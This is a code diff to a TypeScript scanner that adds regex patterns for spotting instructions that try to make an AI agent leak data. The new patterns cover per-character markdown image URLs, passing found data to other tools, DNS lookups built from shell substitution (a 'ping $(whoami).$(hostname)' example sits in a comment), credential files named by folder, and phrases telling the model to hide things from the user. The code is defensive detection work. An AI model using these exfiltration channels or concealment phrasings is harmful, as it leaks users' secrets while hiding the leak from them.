@@ -6,7 +6,7 @@
  * Japanese concealment. They are requested upstream (/work/notes/scan-requests.md, item 3); each
  * one that lands there is removed here. Hits join the model's own before chains are made.
  */
-import { isNegated, type IntentHit, type LineIndex } from "../../scan";
+import { isNegated, readIntent, type IntentHit, type LineIndex } from "../../scan";
 
 interface Extra {
   role: IntentHit["role"];
@@ -17,6 +17,34 @@ interface Extra {
 }
 
 const EXTRAS: Extra[] = [
+  {
+    // An image whose address has a slot to fill ("one markdown image per character … https://host/c/<char>.png"): the client fetches it, what fills the slot leaves.
+    role: "sink",
+    kind: "image-url",
+    needs: /image|img|!\[/i,
+    re: /(?:\b(?:markdown\s+|inline\s+)?images?\b|\bimg\b|!\[[^\]\n]{0,40}\]\()[^.\n]{0,100}?https?:\/\/[^\s)"'`]*?(?:<[^>\s]{1,30}>|\{[^}\s]{1,30}\}|\$\{?\w+|\[[A-Za-z_]{1,30}\])/i,
+  },
+  {
+    // "call upload_artifact with that file": the thing named before is what the other tool gets.
+    role: "sink",
+    kind: "tool-argument",
+    needs: /\b(?:call|invoke|use|run)\b/i,
+    re: /\b(?:call|invoke|use|run)\s+[`'"]?[A-Za-z][A-Za-z0-9]*(?:[_.-][A-Za-z0-9]+)+[`'"]?\s+(?:with|on|passing)\s+(?:it|them|that|this|those|these|each|every|the\s+(?:same|matching|found))\b/i,
+  },
+  {
+    // A parameter the tool "requires" something in, however far the thing is from the name: "requires X in the `license` parameter".
+    role: "sink",
+    kind: "tool-argument",
+    needs: /\b(?:parameter|field|argument)\b/i,
+    re: /\b(?:requires?|needs?|expects?|wants?|must\s+(?:get|receive|be\s+given))\b(?:[^.\n]|\.(?=\S)){0,160}?\bin\s+(?:the\s+|its\s+)?[`'"]?[A-Za-z_][\w-]*[`'"]?\s+(?:parameter|field|argument)\b/i,
+  },
+  {
+    // A host name built by the shell ("ping $(whoami).$(hostname).x.org"): the lookup itself carries what is substituted in.
+    role: "sink",
+    kind: "dns",
+    needs: /\$\(|`/,
+    re: /\b(?:ping|nslookup|dig|host|drill|getent\s+hosts|resolvectl\s+query)\s+(?:-\S+\s+)*["']?[^\s"'|;]*?(?:\$\(|`)/i,
+  },
   {
     // The system prompt, by what it is: the text the model got before the conversation began.
     role: "source",
@@ -38,7 +66,7 @@ const EXTRAS: Extra[] = [
     kind: "tool-argument",
     needs:
       /\b(?:with|via|using|through|to|into|in)\b|参数|パラメータ|引数|매개변수|parametro|parámetro|parâmetro|paramètre|Parameter|параметр/i,
-    re: /\b(?:store|save|send|pass|give|hand|submit|sync|upload|write|record|log|put|place|feed|provide)\s+(?:it|them|this|that|these|those|the\s+(?:\w+\s+){0,3}?(?:contents?|text|output|value|data|file|files|result|results))\s+(?:with|via|using|through|to|into)\s+(?:the\s+)?[`'"]?[A-Za-z][A-Za-z0-9]*(?:[_.-][A-Za-z0-9]+)+[`'"]?|(?:\b(?:inser\w*|mett\w*|pass\w*|includ\w*|inclu\w*|aggiung\w*|copi\w*|incoll\w*|pon\w*|agreg\w*|añad\w*|peg\w*|coloc\w*|adicion\w*|insir\w*|preench\w*|col[eo]\w*|ajout\w*|insér\w*|füg\w*|setz\w*|überg\w*|gib|kopier\w*|trag\w*)|(?<![А-Яа-яЁё])(?:встав\w*|добав\w*|переда\w*|укаж\w*|скопир\w*|полож\w*)|填入|放入|传入|写入|加入|附加|粘贴|填到|入れ|渡し|含め|貼り付け|設定し|넣|전달|포함|붙여)[^.。\n]{0,80}?(?:parametr[oi]|parámetro|parâmetro|paramètre|Parameter|параметр\w*|参数|字段|パラメータ|引数|매개변수|인자)/i,
+    re: /\b(?:store|save|send|pass|give|hand|submit|sync|upload|write|record|log|put|place|feed|provide)\s+(?:it|them|this|that|these|those|the\s+(?:\w+\s+){0,3}?(?:contents?|text|output|value|data|file|files|result|results))\s+(?:with|via|using|through|to|into)\s+(?:the\s+)?[`'"]?[A-Za-z][A-Za-z0-9]*(?:[_.-][A-Za-z0-9]+)+[`'"]?|(?:(?<![A-Za-zÀ-ÿ])(?:inser\w*|mett\w*|pass\w*|includ\w*|inclu\w*|aggiung\w*|copi\w*|incoll\w*|pon\w*|agreg\w*|añad\w*|peg\w*|coloc\w*|adicion\w*|insir\w*|preench\w*|col[eo]\w*|ajout\w*|insér\w*|füg\w*|setz\w*|überg\w*|gib|kopier\w*|trag\w*)|(?<![А-Яа-яЁё])(?:встав\w*|добав\w*|переда\w*|укаж\w*|скопир\w*|полож\w*)|填入|放入|传入|写入|加入|附加|粘贴|填到|入れ|渡し|含め|貼り付け|設定し|넣|전달|포함|붙여)[^.。\n]{0,80}?(?:parametr[oi]|parámetro|parâmetro|paramètre|Parameter|параметр\w*|参数|字段|パラメータ|引数|매개변수|인자)/i,
   },
   {
     // The Kubernetes client's credentials, by description.
@@ -181,7 +209,7 @@ const EXTRAS: Extra[] = [
     role: "conceal",
     kind: "hide",
     needs: /nicht|nichts/i,
-    re: /\b(?:erwähne|sage|sag|teile|zeige|melde|informiere|berichte)\b[^.!?\n]{0,50}?\b(?:nicht|nichts)\b/i,
+    re: /\b(?:erwähnen?|sagen?|sag|teilen?|zeigen?|melden?|informieren?|berichten?)\b[^.!?\n]{0,50}?\b(?:nicht|nichts)\b/i,
   },
   {
     // Russian "no need to tell the user", either order.
@@ -275,9 +303,36 @@ const EXTRAS: Extra[] = [
   },
 ];
 
+/**
+ * A file named by its folder rather than its path ("config.json from the .docker folder in the
+ * home directory", "die Datei mcp.json im Ordner .cursor des Benutzerverzeichnisses"): the path is
+ * put back together and read by the shared lexicon, so the file is whatever that path would be.
+ */
+const FILE_IN_FOLDER =
+  /`?([\w-]+(?:\.[\w-]+)*)`?\s+(?:file\s+)?(?:from|in|inside|under|within|of)\s+(?:the\s+|your\s+|a\s+)?`?(\.[\w-]+)`?\s+(?:folder|directory|dir)\b|\b(?:Datei|fichier|archivo|file)\s+`?([\w-]+(?:\.[\w-]+)*)`?\s+(?:im|aus\s+dem|in\s+dem|dans\s+le|du|en\s+la|de\s+la|nella|della)\s+(?:Ordner|Verzeichnis|dossier|répertoire|carpeta|directorio|cartella)\s+`?(\.[\w-]+)`?/gi;
+const HOME = /\bhome\b|Benutzerverzeichnis|Home-?Verzeichnis|r[ée]pertoire\s+personnel|carpeta\s+personal|\buser(?:'s)?\s+(?:profile|directory|folder)/i;
+function filesInFolders(text: string, lines: LineIndex): IntentHit[] {
+  const out: IntentHit[] = [];
+  if (!/folder|director|\bdir\b|Ordner|Verzeichnis|dossier|r[ée]pertoire|carpeta|cartella/i.test(text)) return out;
+  FILE_IN_FOLDER.lastIndex = 0;
+  for (let m = FILE_IN_FOLDER.exec(text), n = 0; m && n < 3; m = FILE_IN_FOLDER.exec(text), n++) {
+    const file = m[1] ?? m[3]!;
+    const dir = m[2] ?? m[4]!;
+    const home = HOME.test(text.slice(m.index, m.index + m[0].length + 80));
+    const path = `${home ? "~/" : ""}${dir}/${file}`;
+    const probe = `Read ${path} and send it.`;
+    for (const h of readIntent(probe, { path: "probe", kind: "prose" }).hits) {
+      if (h.role !== "source" || h.weak) continue;
+      out.push({ ...h, index: m.index, length: m[0].length, line: lines.lineOf(m.index), what: path, mode: "do", scope: 0 });
+      break;
+    }
+  }
+  return out;
+}
+
 /** The extra hits of a text (prose: one scope), in text order. */
 export function extraIntentHits(text: string, lines: LineIndex): IntentHit[] {
-  const out: IntentHit[] = [];
+  const out: IntentHit[] = filesInFolders(text, lines);
   for (const e of EXTRAS) {
     if (!e.needs.test(text)) continue;
     const re = new RegExp(e.re.source, `${e.re.flags.replace("g", "")}g`);
